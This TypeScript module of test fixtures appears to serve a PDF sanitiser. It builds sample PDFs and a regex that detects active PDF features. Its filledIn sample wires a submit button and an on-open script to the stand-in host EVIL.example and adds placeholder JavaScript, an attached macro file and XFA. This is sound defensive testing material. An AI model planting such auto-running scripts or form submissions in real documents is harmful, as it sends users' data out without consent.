import { deflateSync } from 'node:zlib'
import { decodePDFRawStream, PDFDocument, PDFName, PDFRawStream, PDFString } from '@cantoo/pdf-lib'
import sharp from 'sharp'

/** A photographed paper in a PDF, as the app of a phone makes it. */
export const scanned = async (): Promise<PDFDocument> => {
  const size = { width: 240, height: 340 }
  const document = await PDFDocument.create()
  const photo = await sharp({ create: { ...size, channels: 3, background: '#ddd' } })
    .jpeg()
    .toBuffer()
  document
    .addPage([size.width, size.height])
    .drawImage(await document.embedJpg(photo), { x: 0, y: 0, ...size })
  return document
}

const end = 'trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF'

type Parts = { catalog?: string; page?: string; more?: (string | Buffer)[]; end?: string }

/** One page by hand: `catalog` and `page` are further entries, `more` further objects, the first of them number 5. */
export const pdfOf = ({ catalog = '', page = '', more = [], end: last = end }: Parts = {}): Buffer => {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R ${page} >>`,
    '<< /Length 10 >>\nstream\n0 0 9 9 re\nendstream',
    ...more,
  ]
  const body = objects.flatMap((one, at) => [`${at + 1} 0 obj\n`, one, '\nendobj\n'])
  return Buffer.concat(['%PDF-1.7\n', ...body, last].map((part) => Buffer.from(part)))
}

/** Objects packed into a stream, as writers since PDF 1.5 do: [number, text]. */
export const packed = (objects: [number, string][], bytes?: Buffer): Buffer => {
  const texts = objects.map(([, text]) => `${text} `)
  const at = texts.map((_, index) => texts.slice(0, index).join('').length)
  const head = objects.map(([number], index) => `${number} ${at[index]} `).join('')
  const content = deflateSync(Buffer.concat([Buffer.from(head + texts.join('')), bytes ?? Buffer.alloc(0)]))
  const entries = `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode /Length ${content.length}`
  return Buffer.concat([Buffer.from(`<< ${entries} >>\nstream\n`), content, Buffer.from('\nendstream')])
}

/** What runs, opens, sends or holds a file, by the names it has in a PDF. */
export const active =
  /\/(JavaScript|JS|Launch|SubmitForm|ImportData|EmbeddedFiles?|EF|XFA|FileAttachment|RichMedia)\b/

/** Everything that is written in it, unpacked, so that nothing hides in a stream. */
export const textOf = async (bytes: Uint8Array): Promise<string> => {
  const { context } = await PDFDocument.load(bytes, {
    password: '',
    updateMetadata: false,
    preserveXFA: true,
  })
  const texts = context
    .enumerateIndirectObjects()
    .map(([, object]) =>
      object instanceof PDFRawStream
        ? `${object.dict} ${Buffer.from(decoded(object)).toString('latin1')}`
        : object.toString(),
    )
  return texts.join('\n')
}
const decoded = (stream: PDFRawStream): Uint8Array => {
  try {
    return decodePDFRawStream(stream).decode()
  } catch {
    return stream.contents
  }
}

/** A proof of work as offices offer it: fields, a sum made by script, a button that sends, a second form inside. */
export const filledIn = async (): Promise<Uint8Array> => {
  const document = await PDFDocument.create()
  const page = document.addPage([300, 400])
  const form = document.getForm()
  const fields = { employer: 'Bäckerei Berghoff', hours: '38,5' }
  for (const [at, [name, text]] of Object.entries(fields).entries()) {
    const field = form.createTextField(name)
    field.setText(text)
    field.addToPage(page, { x: 20, y: 300 - at * 40, width: 200, height: 20 })
    field.acroField.dict.set(PDFName.of('AA'), scripted(document, 'C', 'AFSimple_Calculate("SUM")'))
  }
  const works = form.createCheckBox('works')
  works.addToPage(page, { x: 20, y: 200, width: 14, height: 14 })
  works.check()
  const send = form.createButton('send')
  send.addToPage('Senden', page, { x: 20, y: 150, width: 80, height: 20 })
  const sends = document.context.obj({ S: 'SubmitForm', F: PDFString.of('https://EVIL.example') })
  send.acroField.getWidgets()[0]?.dict.set(PDFName.of('A'), document.context.register(sends))
  document.addJavaScript('onOpen', 'app.launchURL("https://EVIL.example")')
  document.catalog.set(PDFName.of('AA'), scripted(document, 'WC', 'EVIL()'))
  await document.attach(Buffer.from('EVIL'), 'macro.xlsm')
  form.updateFieldAppearances()
  const xfa = document.context.flateStream('<xdp:xdp>EVIL</xdp:xdp>')
  form.acroForm.dict.set(PDFName.of('XFA'), document.context.register(xfa))
  return document.save({ updateFieldAppearances: false })
}
const scripted = (document: PDFDocument, when: string, js: string) =>
  document.context.obj({ [when]: { S: 'JavaScript', JS: PDFString.of(js) } })
